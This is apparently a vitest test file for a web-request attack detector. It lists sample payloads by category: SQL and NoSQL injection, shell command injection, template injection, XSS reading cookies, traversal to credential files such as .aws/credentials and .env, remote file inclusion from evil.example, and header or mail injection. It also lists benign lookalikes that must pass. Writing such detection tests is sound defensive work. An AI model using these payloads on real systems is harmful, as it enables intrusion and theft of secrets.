// biome-ignore-all lint/suspicious/noTemplateCurlyInString: requests stand as they are sent
import { describe, expect, test } from 'vitest';
import { encoded, isAlert, judged } from './fixtures/judged.ts';

/** What only follows something else, by category; every text is the value of a parameter unless it begins with a slash. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "'^'",
    "17'||'17",
    "'='3",
    "'or''='",
    "'and'b'='b",
    '8 not in (2)',
    '6 or 5>2',
    '3 and 4*4=16',
    '4||4',
    '7` or 1',
    'ununionion 1',
    'selselectect 2',
    '0 union values row(4,5)',
    '1 or{fn 2}',
    '3 into @pos',
    "2;copy (select 4) to program 'true'",
    '5\nunion\nselect\n6,7',
    "/order/31'/",
    'pg_user',
    '/?n=4=4',
  ],
  nosqli: ["true, $where: '2 == 2'"],
  rce: [
    ';mount',
    ';zsh',
    '|reg query HKCU',
    '& del /q C:\\x',
    '; env id',
    ';. /var/x',
    '/a/;ps%20aux',
    ';whereis nc',
    ";i$q'd'",
    ';$0',
    "$'\\x69\\x64'",
    ';case z in z) df;; esac',
    '-oProxyCommand=df',
    'cscript //b a.vbs',
    '$_COOKIE[c]',
    "$_SERVER['REMOTE_ADDR']",
    '$HTTP_RAW_POST_DATA',
    "include_once '/srv/a.php'",
    '[passthru][0](df)',
    'highlight_file(__FILE__)',
    '@{8*8}',
    '{$smarty.now}',
    '{{ .Run "df" }}',
    '@(4*4)',
    '{6*6}',
    '{{[].class}}',
    '{"constructor":{"prototype":{"z":1}}}',
    '/index.php?s=x&_method=__construct',
  ],
  xss: [
    '["x"].map(alert)',
    '(prompt)(3)',
    'b=confirm,b(2)',
    '{onerror=alert}throw 2',
    'location.href=name',
    'sessionStorage.getItem(1)',
    'document.cookie',
    '\ufe64script\ufe65',
  ],
  traversal: [
    'D:/WINNT/system32/drivers/etc/networks',
    '../.git/HEAD',
    '.svn/entries',
    '.aws/credentials',
    '.env',
    '/run/secrets/token',
    '/etc/alternatives/x',
    '+CSCOE+/session.js',
    'ssh2.shell://a@b/',
  ],
  rfi: ['//evil.example/a.php?', '\\\\198.51.100.9\\c$\\a', '/?conf[base_path]=http://evil.example/i.txt'],
  'mail-injection': ['a\nBcc: b@example.net'],
  'header-injection': ['a\\r\\nSet-Cookie: b=c', '\u560a\u560dLocation: /x', 'x HTTP/1.1\r\nHost: evil'],
  protocol: ['/index.php?-s'],
};

describe.each(Object.entries(ATTACKS))('%s', (category, texts) => {
  test.each(texts)('%s', (text) => {
    const own = /^\/\S*$/.test(text) ? (judged(encoded(text))?.categories ?? []) : [];
    const inParameter = judged(`/item?x=${encodeURIComponent(text)}`)?.categories ?? [];
    expect([...own, ...inParameter]).toContain(category);
  });
});

test.each([';df;', '|cat /x', '$(id)'])('by %s', (userAgent) => {
  expect(isAlert('/', { userAgent })).toBe(true);
});

/** Values that look alike and are nobody's attack. */
const HONEST: readonly string[] = [
  "/export?delimiter='|'",
  '/export?sep="^"',
  '/list?tags=;history;science;',
  '/list?tabs=| History | Mail',
  '/list?tabs=& more',
  '/find?q=.git/config',
  '/find?q=.htaccess',
  "/find?q=localStorage.getItem('a') returns null",
  '/find?q=@(1+2) razor',
  '/find?q=ls engine parts',
  '/form?steps=for sale; fi',
  '/form?lyrics=if i could; done',
  '/form?answer=2 and 3/4',
  '/form?answer=3 in a row',
  '/form?answer=5 between friends',
  '/form?street=1 Main St\r\nApt 2\r\nSpringfield',
  '/form?types=[alert,info]',
  '/form?button=Delete (confirm)',
  '/form?class=Foo$Bar',
  '/form?selector=.btn',
  '/form?page=location.html',
  '/form?folder=docs/.github/workflows',
  '/form?upload=C:\\fakepath\\a.jpg',
  '/form?dir=\\\\nas.example.com\\public\\a.pdf',
  '/form?image_path=http://cdn.example.com/a.png',
  '/form?link=//example.com/find?a=b',
  '/form?word=\u4f86\u560d: \u597d',
  '/save?body=<p>Tom &amp; Jerry&nbsp;caf&eacute;</p>',
  '/ldap?filter=(%26(objectClass=user)(cn=bob*))',
  '/Microsoft-Server-ActiveSync?Cmd=Ping&User=d%5Cb&DeviceId=a&DeviceType=iPhone',
  '/Microsoft-Server-ActiveSync?User=d%5Cb&DeviceId=a&DeviceType=iPhone&Cmd=Ping',
  '/adminer.php?select=users&where[0][col]=name&where[0][op]=LIKE %%&where[0][val]=bob',
];

test.each(HONEST)('%s is left alone', (target) => {
  expect(isAlert(encoded(target))).toBe(false);
});
